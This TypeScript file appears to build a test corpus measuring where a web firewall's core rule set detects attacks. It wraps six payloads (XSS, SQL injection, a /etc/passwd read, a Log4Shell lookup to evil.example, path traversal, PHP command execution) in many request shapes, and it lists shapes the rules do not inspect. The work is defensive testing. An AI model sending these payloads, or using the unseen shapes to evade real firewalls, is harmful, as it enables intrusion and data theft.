// Where in a request the core rule set finds an attack, and where it does not look.
import { gzipSync } from "node:zlib";
import { encode, escapeXml } from "./crs-corpus.ts";
import type { CorpusRequest, Described } from "./crs-corpus.ts";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "1' UNION SELECT password FROM users-- -",
  ";cat /etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "<?php system('id'); ?>",
];

type Rest = Omit<Described, "group">;
const post = (type: string | undefined, body: string): Rest => ({
  method: "POST",
  path: "/api",
  body,
  ...(type !== undefined && { type }),
});
const part = (more: object): Rest => ({ method: "POST", path: "/up", parts: [{ name: "f", text: "x", ...more }] });
const plain = (text: string) => text.replaceAll(/["\r\n]/g, "");
const base64 = (text: string | Buffer) => Buffer.from(text).toString("base64");
const json = (text: string) => JSON.stringify({ a: text });
const escapedJson = (text: string) =>
  `{"a":"${text.replaceAll(/./g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`)}"}`;
const xml = (inside: string) => `<?xml version="1.0"?><a>${inside}</a>`;
const escaped = (text: string) => escapeXml(text).replaceAll('"', "&quot;");

const SEEN: Readonly<Record<string, (text: string) => Rest>> = {
  "a parameter of the query": (text) => ({ method: "GET", path: "/", query: { a: text } }),
  "the name of a parameter": (text) => ({ method: "GET", path: "/", query: { [text]: "1" } }),
  "a field of a form": (text) => ({ method: "POST", path: "/", form: { a: text } }),
  "a field of a multipart form": (text) => part({ text }),
  "the name of a part": (text) => part({ name: plain(text) }),
  JSON: (text) => post("application/json", json(text)),
  "JSON, deep": (text) => post("application/json", JSON.stringify({ a: [{ b: { c: [1, text] } }] })),
  "JSON with escapes": (text) => post("application/json", escapedJson(text)),
  "the name of a member of JSON": (text) => post("application/json", JSON.stringify({ [text]: 1 })),
  "a type with +json": (text) => post("application/vnd.example+json", json(text)),
  "a merge patch": (text) => ({ ...post("application/merge-patch+json", json(text)), method: "PATCH" }),
  "JSON in a field": (text) => ({ method: "POST", path: "/", form: { payload: json(text) } }),
  "text of XML": (text) => post("application/xml", xml(`<b>${escapeXml(text)}</b>`)),
  "an attribute of XML": (text) => post("application/xml", xml(`<b c="${escaped(text)}"/>`)),
  "CDATA of XML": (text) => post("application/xml", xml(`<![CDATA[${text}]]>`)),
  "an entity of XML": (text) =>
    post("application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "${escaped(text)}">]><a>&x;</a>`),
  "a type with +xml": (text) => post("application/atom+xml", xml(escapeXml(text))),
  "text/plain": (text) => post("text/plain", text),
  "JSON as text/plain": (text) => post("text/plain", json(text)),
  NDJSON: (text) => post("application/x-ndjson", `{"b":1}\n${json(text)}\n`),
  CSV: (text) => post("text/csv", `id,name\n1,${text}\n`),
  "application/graphql": (text) => post("application/graphql", `{ user(name: "${text}") { id } }`),
  "a cookie": (text) => ({ method: "GET", path: "/", headers: { cookie: `a=${encodeURIComponent(text)}` } }),
};

const UNSEEN: Readonly<Record<string, (text: string) => Rest>> = {
  "JSON without a type": (text) => post(undefined, json(text)),
  "JSON with escapes under a type of text, but for HTML": (text) =>
    post("application/x-ndjson", escapedJson(text.replaceAll(/[<>]/g, ""))),
  "application/octet-stream": (text) => post("application/octet-stream", json(text)),
  "another type of bytes": (text) => post("image/png", json(text)),
  "multipart/mixed": (text) => post("multipart/mixed; boundary=b", `--b\r\n\r\n${text}\r\n--b--\r\n`),
  "the contents of a file": (text) => part({ filename: "a.txt", type: "text/plain", text }),
  "JSON as a file": (text) => part({ filename: "blob", type: "application/json", text: json(text) }),
  "base64 in JSON": (text) => post("application/json", json(base64(text))),
  "gzip as bytes": (text) => ({
    method: "POST",
    path: "/api",
    type: "application/octet-stream",
    base64: base64(gzipSync(text)),
  }),
  "the name of an element": (text) => post("application/xml", xml(`<b${text.replaceAll(/[^a-z]/g, "")}/>`)),
  "a comment of XML": (text) => post("application/xml", xml(`<!--${text.replaceAll("--", "")} -->`)),
  "an external entity of XML": (text) =>
    post("application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${escaped(text)}">]><a>&x;</a>`),
};

export interface Shape {
  readonly shape: string;
  readonly isSeen: boolean;
  readonly requests: readonly CorpusRequest[];
}

const shapesOf = (described: Readonly<Record<string, (text: string) => Rest>>, isSeen: boolean): readonly Shape[] =>
  Object.entries(described).map(([shape, requestWith]) => ({
    shape,
    isSeen,
    requests: PAYLOADS.map((text) => encode({ group: shape, ...requestWith(text) })),
  }));

export const SHAPES = [...shapesOf(SEEN, true), ...shapesOf(UNSEEN, false)];
